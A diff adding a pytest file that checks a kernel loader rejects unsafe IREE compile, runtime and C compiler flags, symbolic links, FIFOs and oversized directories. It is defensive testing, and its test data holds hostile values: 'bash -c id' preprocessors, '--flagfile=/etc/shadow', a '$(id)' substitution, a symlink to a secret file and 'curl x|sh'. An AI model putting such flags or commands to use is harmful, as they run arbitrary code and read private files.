@@ -1,0 +1,134 @@
+"""A kernel's flags are data, not commands (iree/flag_safety.py), and its directory holds regular
+files only (kernel/kernels.py): each refused at load in one line naming the file and the key."""
+
+from __future__ import annotations
+
+import os
+import shutil
+from pathlib import Path
+
+import pytest
+
+from iree_matrix.iree import flag_safety
+from iree_matrix.kernel import kernels
+
+NEGABS = Path(__file__).parents[1] / "data" / "kernels" / "negabs"
+
+
+@pytest.mark.parametrize(
+    "flag",
+    [
+        '--iree-hal-preprocess-executables-with=bash -c "id"',
+        "--iree-hal-preprocess-executables-with=sh",
+        "--iree-load-plugin=/tmp/x.so",
+        "--iree-hal-substitute-executable-object=a=b.o",
+        "--iree-hal-dump-executable-files-to=/tmp",
+        "--iree-hal-executable-object-search-path=/root",
+        "--iree-preprocessing-transform-spec-filename=spec.mlir",
+        "--iree-codegen-transform-dialect-library=lib.mlir",
+        "--iree-llvmcpu-embedded-linker-path=/bin/sh",
+        "--iree-preprocessing-pass-pipeline=builtin.module(iree-preprocessing-transform-interpreter{transform-spec-path=x})",
+        "--mlir-print-ir-after-all",
+        "-o",
+    ],
+)
+def test_compile_flags_that_run_or_read_are_refused(flag: str) -> None:
+    assert flag_safety.compile_flag_problem(flag) is not None
+
+
+@pytest.mark.parametrize(
+    "flag",
+    [
+        "--iree-preprocessing-pass-pipeline=builtin.module(util.func(iree-preprocessing-convert-conv-to-channels-last))",
+        "--iree-llvmcpu-fail-on-large-vector=false",
+        "--iree-opt-data-tiling",
+    ],
+)
+def test_compile_flags_of_the_shipped_kernels_pass(flag: str) -> None:
+    assert flag_safety.compile_flag_problem(flag) is None
+
+
+@pytest.mark.parametrize(
+    "flag", ["--executable_plugin=embedded:/tmp/x.so", "--flagfile=/etc/shadow", "--trace_file=x",
+             "--task_topology_file=/x", "--parameters=a=/x.irpa", "--task_worker_stack_size=$(id)"],
+)  # fmt: skip
+def test_run_flags_are_the_task_systems_only(flag: str) -> None:
+    assert flag_safety.run_flag_problem(flag) is not None
+    assert flag_safety.run_flag_problem("--task_worker_stack_size=196608") is None
+
+
+@pytest.mark.parametrize(
+    "flag",
+    ["-include/root/x", "--include=/root/x", "--include-directory=/root", "-imacros", "@/root/args",
+     "-I/root", "-I../other", "-Isub/../..", "-isystem/usr/include", "--sysroot=/", "-B/tmp",
+     "-fplugin=/x.so", "-fpass-plugin=/x.so", "-specs=/x", "-Xclang", "-mllvm", "-Wl,-T,/x",
+     "-fprofile-use=/x", "-march=x", "-target", "-o", "-c", "-fembed-dir=/root"],
+)  # fmt: skip
+def test_cflags_that_read_files_or_change_the_target_are_refused(flag: str) -> None:
+    assert flag_safety.c_flag_problem(flag) is not None
+
+
+@pytest.mark.parametrize(
+    "flag", ["-std=c11", "-O3", "-DBLOCK=16", "-ffast-math", "-fno-math-errno", "-mavx2", "-Wall", "-Isub",
+             "-fvisibility=protected", "-g"],
+)  # fmt: skip
+def test_ordinary_cflags_pass(flag: str) -> None:
+    assert flag_safety.c_flag_problem(flag) is None
+
+
+def _negabs(tmp_path: Path, extra: str = "") -> Path:
+    kernel = tmp_path / "negabs"
+    shutil.copytree(NEGABS, kernel)
+    if extra:
+        with (kernel / kernels.KERNEL_FILE).open("a") as f:
+            f.write(extra)
+    return kernel
+
+
+def test_the_loader_names_the_file_and_key_of_a_flag_that_runs_a_program(tmp_path: Path) -> None:
+    kernel = _negabs(tmp_path, "requires_flags = ['--iree-hal-preprocess-executables-with=bash -c id']\n")
+    with pytest.raises(kernels.KernelError) as refused:
+        kernels.load(kernel)
+    said = str(refused.value)
+    assert str(kernel / kernels.KERNEL_FILE) in said and "requires_flags" in said and "\n" not in said
+
+
+def test_a_symbolic_link_to_a_private_file_and_a_fifo_are_refused_by_path(tmp_path: Path) -> None:
+    secret = tmp_path / "secret"
+    secret.write_text("token")
+    secret.chmod(0o600)
+    kernel = _negabs(tmp_path)
+    (kernel / "evil.h").symlink_to(secret)
+    with pytest.raises(kernels.KernelError, match="evil.h: a symbolic link"):
+        kernels.load(kernel)
+    (kernel / "evil.h").unlink()
+    os.mkfifo(kernel / "pipe")
+    with pytest.raises(kernels.KernelError, match="pipe: not a regular file"):
+        kernels.load(kernel)
+    (kernel / "pipe").unlink()
+    (kernel / "public.h").symlink_to(kernel / "negabs.c")  # a file every user may read: followed
+    assert kernels.load(kernel).name == "negabs"
+
+
+def test_a_kernel_directory_over_16_mib_is_refused(tmp_path: Path) -> None:
+    kernel = _negabs(tmp_path)
+    with (kernel / "big.bin").open("wb") as f:
+        f.truncate(17 << 20)
+    with pytest.raises(kernels.KernelError, match="at most 16 MiB"):
+        kernels.load(kernel)
+
+
+def test_a_long_value_is_cut_in_the_loaders_line(tmp_path: Path) -> None:
+    kernel = _negabs(tmp_path, f"requires_flags = ['--iree-{'x' * 20000}=/bin/sh']\n")
+    with pytest.raises(kernels.KernelError) as refused:
+        kernels.load(kernel)
+    assert len(str(refused.value)) < 600 and "…" in str(refused.value)
+
+
+def test_show_commands_warns_of_a_received_command_that_runs_a_program() -> None:
+    from iree_matrix.stages import by_hand
+
+    argv = ["iree-compile", "m.mlir", "--iree-hal-preprocess-executables-with=bash -c 'curl x|sh'", "-o", "m"]
+    (warning,) = [n for n in by_hand.elsewhere([argv]) if n.startswith("WARNING")]
+    assert "--iree-hal-preprocess-executables-with=bash" in warning and "runs or loads a program" in warning
+    assert not [n for n in by_hand.elsewhere([["iree-compile", "m.mlir", "-o", "m"]]) if "WARNING" in n]
